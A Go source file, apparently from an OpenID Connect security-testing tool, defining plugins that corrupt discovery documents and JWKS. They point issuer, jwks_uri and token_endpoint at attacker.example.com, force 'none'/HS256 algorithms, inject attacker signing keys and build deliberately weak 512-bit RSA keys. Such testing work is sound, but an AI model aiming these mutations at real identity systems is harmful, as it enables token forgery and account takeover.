package catalogue

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"math/big"

	"github.com/go-jose/go-jose/v4"

	"github.com/loki-oidc/loki-splice/pkg/plugins"
)

func asDiscoveryContext(mc plugins.Context) (plugins.DiscoveryContext, bool) {
	dc, ok := mc.(plugins.DiscoveryContext)
	return dc, ok
}

const (
	discoveryModeIssuerMismatch = "issuer-mismatch"
	discoveryModeMaliciousJWKS  = "malicious-jwks"
	discoveryModeMaliciousToken = "malicious-token"
	discoveryModeWeakAlgorithms = "weak-algorithms"
	discoveryModeRemoveRequired = "remove-required"
)

// DiscoveryConfusion mutates fields of the OpenID Provider Configuration
// document per mode, e.g. advertising an attacker-controlled token_endpoint.
var DiscoveryConfusion = plugins.Descriptor{
	ID:          "discovery-confusion",
	Name:        "Discovery Document Confusion",
	Description: "Rewrites, weakens, or strips fields of the discovery document depending on mode.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseDiscovery,
	Spec: plugins.SpecRef{
		OIDC:        "OIDC Discovery 1.0 §3",
		Description: "Clients that trust discovery documents without pinning can be redirected to attacker infrastructure or downgraded to weak algorithms.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		dc, ok := asDiscoveryContext(mc)
		if !ok {
			return notApplied()
		}
		m := mode(dc.Config(), discoveryModeIssuerMismatch)

		switch m {
		case discoveryModeIssuerMismatch:
			return rewriteDiscoveryField(m, dc, "issuer", configString(dc.Config(), "attacker_issuer", "https://attacker.example.com"))
		case discoveryModeMaliciousJWKS:
			return rewriteDiscoveryField(m, dc, "jwks_uri", configString(dc.Config(), "attacker_jwks_uri", "https://attacker.example.com/jwks.json"))
		case discoveryModeMaliciousToken:
			return rewriteDiscoveryField(m, dc, "token_endpoint", configString(dc.Config(), "attacker_token_endpoint", "https://attacker.example.com/token"))
		case discoveryModeWeakAlgorithms:
			weak := []string{"none", "HS256"}
			before := dc.Document["id_token_signing_alg_values_supported"]
			dc.Document["id_token_signing_alg_values_supported"] = weak
			return result(true, "restricted discovery.id_token_signing_alg_values_supported to none/HS256", map[string]any{
				"mode": m, "before": before, "after": weak,
			})
		case discoveryModeRemoveRequired:
			removed := []string{"jwks_uri", "response_types_supported", "subject_types_supported"}
			before := map[string]any{}
			for _, field := range removed {
				before[field] = dc.Document[field]
				delete(dc.Document, field)
			}
			return result(true, "removed required discovery fields", map[string]any{
				"mode": m, "removed": removed, "before": before,
			})
		default:
			return notApplied()
		}
	},
}

func rewriteDiscoveryField(m string, dc plugins.DiscoveryContext, field, attacker string) plugins.Result {
	before := dc.Document[field]
	dc.Document[field] = attacker
	return result(true, "rewrote discovery."+field+" ("+m+")", map[string]any{
		"mode": m, "field": field, "before": before, "after": attacker,
	})
}

const (
	jwksModeInjectKey = "inject-key"
	jwksModeEmpty     = "empty"
	jwksModeMalformed = "malformed"
	jwksModeWrongUse  = "wrong-use"
	jwksModeWeakKey   = "weak-key"
)

// JWKSInjection mutates the advertised JWKS document per mode.
var JWKSInjection = plugins.Descriptor{
	ID:          "jwks-injection",
	Name:        "JWKS Injection",
	Description: "Injects, empties, corrupts, or weakens keys in the JWKS document's keys array.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseDiscovery,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7517",
		CWE:         "CWE-347",
		Description: "Verifiers that trust every key in the JWKS, or fall back to a weak one, accept tokens signed by an attacker.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		dc, ok := asDiscoveryContext(mc)
		if !ok {
			return notApplied()
		}
		m := mode(dc.Config(), jwksModeInjectKey)
		keys, _ := dc.Document["keys"].([]any)

		switch m {
		case jwksModeEmpty:
			dc.Document["keys"] = []any{}
			return result(true, "emptied jwks.keys", map[string]any{"mode": m, "key_count": 0})

		case jwksModeMalformed:
			return malformFirstKey(dc, keys)

		case jwksModeWrongUse:
			return flipFirstKeyUse(keys)

		case jwksModeWeakKey:
			weak, err := attackerJWK512()
			if err != nil {
				return notApplied()
			}
			dc.Document["keys"] = []any{weak}
			return result(true, "replaced jwks.keys with one 512-bit RSA key", map[string]any{
				"mode": m, "kid": weak["kid"], "key_count": 1,
			})

		default: // inject-key
			injected, err := attackerJWK(configString(dc.Config(), "attacker_n", ""))
			if err != nil {
				return notApplied()
			}
			dc.Document["keys"] = append(keys, injected)
			return result(true, "appended attacker key to jwks.keys", map[string]any{
				"mode": m, "injected_kid": injected["kid"], "key_count": len(keys) + 1,
			})
		}
	},
}

// malformFirstKey breaks the first key in keys according to a "malformed_mode"
// sub-mode: missing-kty removes the kty field, missing-e removes e, and the
// default corrupts n with a non-base64url payload.
func malformFirstKey(dc plugins.DiscoveryContext, keys []any) plugins.Result {
	if len(keys) == 0 {
		return notApplied()
	}
	key, ok := keys[0].(map[string]any)
	if !ok {
		return notApplied()
	}
	subMode := configString(dc.Config(), "malformed_mode", "bad-n")

	switch subMode {
	case "missing-kty":
		delete(key, "kty")
	case "missing-e":
		delete(key, "e")
	default: // bad-n
		key["n"] = "not-valid-base64url!!!"
	}

	return result(true, "malformed jwks.keys[0] ("+subMode+")", map[string]any{
		"mode": jwksModeMalformed, "malformed_mode": subMode, "kid": key["kid"],
	})
}

// flipFirstKeyUse swaps the first key's "use" field between "sig" and "enc".
func flipFirstKeyUse(keys []any) plugins.Result {
	if len(keys) == 0 {
		return notApplied()
	}
	key, ok := keys[0].(map[string]any)
	if !ok {
		return notApplied()
	}
	before, _ := key["use"].(string)
	after := "sig"
	if before == "sig" {
		after = "enc"
	}
	key["use"] = after

	return result(true, "flipped jwks.keys[0].use", map[string]any{
		"mode": jwksModeWrongUse, "before_use": before, "after_use": after, "kid": key["kid"],
	})
}

// DiscoveryPlugins are all discovery-phase plugins, in declared order.
var DiscoveryPlugins = []plugins.Descriptor{
	DiscoveryConfusion, JWKSInjection,
}

// attackerJWK builds the JWK map injected by jwks-injection's inject-key
// mode. With rawModulus set, the key is assembled by hand with the
// caller-supplied (possibly malformed) modulus, since go-jose's typed RSA
// key refuses to marshal a modulus that doesn't correspond to a real key.
// Without it, a fresh RSA keypair is generated and its public half
// marshalled through go-jose, producing a structurally valid JWK an
// unsuspecting verifier would accept at face value.
func attackerJWK(rawModulus string) (map[string]any, error) {
	if rawModulus != "" {
		return map[string]any{
			"kty": "RSA",
			"kid": "attacker-injected-key-" + randomHex(4),
			"use": "sig",
			"alg": "RS256",
			"n":   rawModulus,
			"e":   "AQAB",
		}, nil
	}
	return generateJWK(2048, "attacker-injected-key-"+randomHex(4))
}

// attackerJWK512 generates a deliberately weak 512-bit RSA key, marshalled
// through go-jose the same way attackerJWK does for its generated branch.
func attackerJWK512() (map[string]any, error) {
	return generateJWK(512, "weak-key-"+randomHex(4))
}

func generateJWK(bits int, kid string) (map[string]any, error) {
	var pub *rsa.PublicKey
	if bits < 1024 {
		// rsa.GenerateKey refuses sizes below 1024 bits, so a weak modulus is
		// the product of two random primes of half the size.
		p, err := rand.Prime(rand.Reader, bits/2)
		if err != nil {
			return nil, err
		}
		q, err := rand.Prime(rand.Reader, bits/2)
		if err != nil {
			return nil, err
		}
		pub = &rsa.PublicKey{N: new(big.Int).Mul(p, q), E: 65537}
	} else {
		key, err := rsa.GenerateKey(rand.Reader, bits)
		if err != nil {
			return nil, err
		}
		pub = &key.PublicKey
	}
	jwk := jose.JSONWebKey{Key: pub, KeyID: kid, Algorithm: "RS256", Use: "sig"}
	raw, err := jwk.MarshalJSON()
	if err != nil {
		return nil, err
	}
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		return nil, err
	}
	return m, nil
}
